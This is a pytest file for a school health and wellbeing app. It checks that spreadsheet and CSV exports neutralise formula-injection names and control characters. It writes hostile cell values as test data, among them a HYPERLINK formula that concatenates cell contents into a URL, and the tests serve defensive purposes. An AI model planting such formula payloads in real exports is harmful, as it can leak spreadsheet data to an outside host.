"""Every export the app writes, through screening.exports: names that look like formulas
are written as text with a leading apostrophe (never a formula cell), and names holding
control characters, stored before input refused them, are written with U+FFFD instead of
failing. Runs on SQLite and PostgreSQL (which cannot store NUL: there the control name
holds ESC and BEL only).

The national fitness file, the coverage ledger (school and district), the audit CSV, the
compliance pack (CSV files and workbook), the paper and roster templates, and `wellbeing
roster import --credentials-out`."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from tests.conftest import login
from tests.factories import make_student
from tests.wellbeing.campaigns import conftest as campaign_fixtures
from tests.wellbeing.campaigns.conftest import target_of
from wellbeing.campaigns import paper_import, services
from wellbeing.campaigns.battery import battery
from wellbeing.clock import local_today
from wellbeing.extensions import db
from wellbeing.health import export
from wellbeing.roster import importer
from wellbeing.roster.cli import roster_group
from wellbeing.roster.models import Student
from wellbeing.security.audit import record_event
from wellbeing.security.compliance import build_pack

pytestmark = pytest.mark.app

# name -> what every export must write for it
FORMULAS = {
    "=1+1": "'=1+1",
    '=HYPERLINK("http://x"&A1,"y")': '\'=HYPERLINK("http://x"&A1,"y")',
    "+1": "'+1",
    "-1+A1": "'-1+A1",
    "@SUM(A1)": "'@SUM(A1)",
}
BLANK_STARTS = {"\tx": "'\tx", "\rx": "'\rx"}
# NUL, ESC and BEL; PostgreSQL text cannot hold NUL, so there the name has ESC and BEL.
CONTROL_NAMES = {
    "sqlite": ("张\x00三\x1b四\x07", "张\ufffd三\ufffd四\ufffd"),
    "postgresql": ("张三\x1b四\x07", "张三\ufffd四\ufffd"),
}
UNSAFE = {chr(c) for c in [*range(0x20), 0x7F]} - {"\t", "\n", "\r"}
campaign_plan = campaign_fixtures.campaign_plan
campaign = campaign_fixtures.campaign


@pytest.fixture
def hostile(db_session: Any) -> dict[str, str]:
    """Every hostile name and the cell text every export must write for it."""
    name, cell = CONTROL_NAMES[db.session.get_bind().dialect.name]
    return {**FORMULAS, **BLANK_STARTS, name: cell}


def store_directly(row: Any, **values: str) -> None:
    """Write past the application's input checks (rows stored before them existed)."""
    table = type(row).__table__
    db.session.execute(update(table).where(table.c.id == row.id).values(**values))
    db.session.expire(row)


def as_read(text: str) -> str:
    """What XLSX reads back: XML turns CR LF, and a lone CR, into LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def assert_no_formula(workbook: Any) -> list[list[Any]]:
    """Every sheet's cell values, asserting that no cell is a formula or holds a control
    character."""
    values = []
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not UNSAFE & set(cell.value), (sheet.title, cell.coordinate)
            values.append([cell.value for cell in row])
    return values


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for value in row:
            assert not UNSAFE & set(value), value
    return rows


@pytest.fixture
def hostile_students(world: SimpleNamespace, hostile: dict[str, str]) -> dict[int, str]:
    """One grade-7 student of school A per hostile name: student id -> expected cell."""
    expected = {}
    for name, cell in hostile.items():
        student = make_student(world.classes["A1"], "待改名")
        db.session.flush()
        store_directly(student, name=name)
        expected[student.id] = cell
    db.session.flush()
    return expected


# ----------------------------------------------------------------------------- health


def test_the_national_fitness_file(client, world, hostile_students):
    year = local_today().year
    login(client, "doctor")
    response = client.get(f"/health/schools/{world.schools['A'].id}/export/{year}.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.data))
    rows = assert_no_formula(workbook)
    number, name = export.COLUMNS.index("学籍号"), export.COLUMNS.index("姓名")
    names = {row[number]: row[name] for row in rows}
    for student_id, cell in hostile_students.items():
        assert names[db.session.get(Student, student_id).student_number] == as_read(cell)
    assert names[world.students["A1-0"].student_number] == "学生A1-0"
    # The text columns are still formatted as text (a 学籍号 must not become a number).
    assert workbook.active.cell(row=2, column=number + 1).number_format == "@"
    assert workbook.active.cell(row=2, column=name + 1).number_format == "General"


# ----------------------------------------------------------------------------- coverage


def test_the_school_coverage_ledger(client, world, campaign_plan, hostile, hostile_students):
    plan = campaign_plan(world)
    admin, counselor = world.users["admin"], world.users["counselor"]
    campaign = services.open_campaign(world.district, world.schools["A"], plan, admin)
    store_directly(campaign, name="=1+1")
    names = {cell: name for name, cell in hostile.items()}
    expected = {}
    for student_id, cell in hostile_students.items():
        student = db.session.get(Student, student_id)
        target = target_of(campaign, student)
        services.mark(target, "exempt", "病假", counselor)
        store_directly(target, reason=names[cell])  # staff's own words, as stored
        expected[student.student_number] = as_read(cell)
    db.session.commit()
    login(client, "counselor")
    client.get("/language/en")
    url = f"/coverage/schools/{world.schools['A'].id}/campaigns/{campaign.id}/export.xlsx"
    response = client.get(url)
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.data))
    assert_no_formula(workbook)
    ledger = list(workbook.worksheets[0].iter_rows(values_only=True))
    header = ledger[0]
    number, name, reason = (header.index(c) for c in ("Student number", "Name", "Reason"))
    written = {row[number]: (row[name], row[reason]) for row in ledger[1:]}
    assert {n: written[n] for n in expected} == {n: (c, c) for n, c in expected.items()}
    summary = list(workbook.worksheets[1].iter_rows(values_only=True))
    assert summary[0][1] == "'=1+1"


def test_the_district_coverage_export(client, world, campaign_plan, hostile):
    formula, control = '=HYPERLINK("http://x"&A1,"y")', list(hostile)[-1]
    store_directly(world.schools["A"], name=formula)
    store_directly(world.schools["B"], name=control)
    plan = campaign_plan(world, school_ids=[world.schools["A"].id, world.schools["B"].id])
    campaign = services.open_campaign(world.district, None, plan, world.users["admin"])
    db.session.commit()
    login(client, "admin")
    url = f"/coverage/districts/{world.district.id}/campaigns/{campaign.id}/export.xlsx"
    response = client.get(url)
    assert response.status_code == 200
    rows = assert_no_formula(load_workbook(io.BytesIO(response.data)))
    first_cells = [row[0] for row in rows if row]
    assert hostile[formula] in first_cells and hostile[control] in first_cells


# ----------------------------------------------------------------------------- audit


def _audited(hostile: dict[str, str]) -> None:
    for name in hostile:
        record_event("break_glass", username=name, purpose=name)
    db.session.flush()


def test_the_audit_csv(client, world, hostile):
    _audited(hostile)
    login(client, "admin")
    client.get("/language/en")
    response = client.get("/admin/audit/export.csv?action=break_glass")
    assert response.status_code == 200
    rows = read_csv(response.data)
    user, purpose = rows[0].index("User"), rows[0].index("Purpose")
    assert sorted((row[user], row[purpose]) for row in rows[1:]) == sorted(
        (cell, cell) for cell in hostile.values()
    )


def test_the_compliance_pack(app, world, hostile, tmp_path: Path):
    _audited(hostile)
    year = local_today().year
    pack = build_pack(year, tmp_path / "pack")
    glass = read_csv((pack.folder / "02_break_glass_reads.csv").read_bytes())
    assert sorted(row[1] for row in glass[1:]) == sorted(hostile.values())
    assert sorted(row[5] for row in glass[1:]) == sorted(hostile.values())
    for name in pack.files:
        if name.endswith(".csv"):
            read_csv((pack.folder / name).read_bytes())
    workbook = load_workbook(pack.folder / f"compliance-{year}.xlsx")
    assert_no_formula(workbook)
    sheet = list(workbook["break-glass reads"].iter_rows(values_only=True))
    assert sorted(row[1] for row in sheet[1:]) == sorted(as_read(c) for c in hostile.values())


# ----------------------------------------------------------------------------- templates


def test_the_paper_import_template_is_unchanged(client, world, campaign):
    login(client, "counselor")
    url = f"/paper/schools/{world.schools['A'].id}/campaigns/{campaign.id}/import/template.csv"
    body = client.get(url).get_data(as_text=True)
    assert body == ",".join(paper_import.template_columns(battery(campaign))) + "\n"


@pytest.mark.parametrize("language", ["zh", "en"])
def test_the_roster_templates_hold_text_and_no_formula(language: str):
    workbook = load_workbook(io.BytesIO(importer.template_xlsx(language)))
    rows = assert_no_formula(workbook)
    assert len(workbook.sheetnames) == len(importer.KINDS)
    for sheet, kind in zip(workbook, importer.KINDS, strict=True):
        header, example = (
            ["" if v is None else v for v in r]
            for r in sheet.iter_rows(max_row=2, values_only=True)
        )
        csv_rows = read_csv(importer.template_csv(kind, language))
        assert csv_rows == [header, example]
        assert all(cell.number_format == "@" for row in sheet.iter_rows() for cell in row)
        assert sheet.column_dimensions["A"].width == 20
    assert rows


# ----------------------------------------------------------------------------- credentials


def test_credentials_out_neutralises_display_names(app, world, tmp_path: Path):
    if "roster" not in app.cli.commands:
        app.cli.add_command(roster_group)
    staff = tmp_path / "staff.csv"
    with staff.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["username", "display_name", "role", "school_code"])
        for index, name in enumerate(FORMULAS):
            writer.writerow([f"doctor{index}", name, "doctor", world.schools["A"].code])
    out = tmp_path / "credentials.csv"
    result = app.test_cli_runner().invoke(
        args=["roster", "import", str(staff), "--credentials-out", str(out)]
    )
    assert result.exit_code == 0, result.output
    rows = read_csv(out.read_bytes())
    assert rows[0] == ["username", "display_name", "password"]
    assert [row[1] for row in rows[1:]] == list(FORMULAS.values())
    assert all(len(row[2]) >= 12 and row[2].isalnum() for row in rows[1:])
